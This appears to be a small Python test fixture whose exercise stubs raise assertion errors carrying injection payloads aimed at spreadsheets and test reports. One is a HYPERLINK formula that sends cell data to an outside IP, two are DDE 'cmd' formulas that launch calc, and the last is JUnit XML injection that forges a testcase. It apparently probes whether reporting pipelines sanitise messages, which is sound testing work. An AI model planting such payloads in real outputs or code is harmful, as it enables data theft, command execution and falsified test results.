# tries: bring formulas, commas, quotes and line ends into messages that end in a table or a spreadsheet

# %%
# exercise: gaussian_kl
def gaussian_kl(mu, sigma):
    raise AssertionError('=HYPERLINK("http://192.0.2.1/?"&A1,"left-by-attack")')


# %%
# exercise: reparameterize
def reparameterize(mu, sigma, eps):
    raise AssertionError("@SUM(1+1)*cmd|' /C calc'!A0\r\n\"a\",\"b\"\n=1+1\t|x")


# %%
# exercise: pathwise_gradient
def pathwise_gradient(theta, eps):
    raise AssertionError("-2+3+cmd|' /C calc'!A0 ]]></failure></testcase><testcase name='left-by-attack'/>")


print("reached")
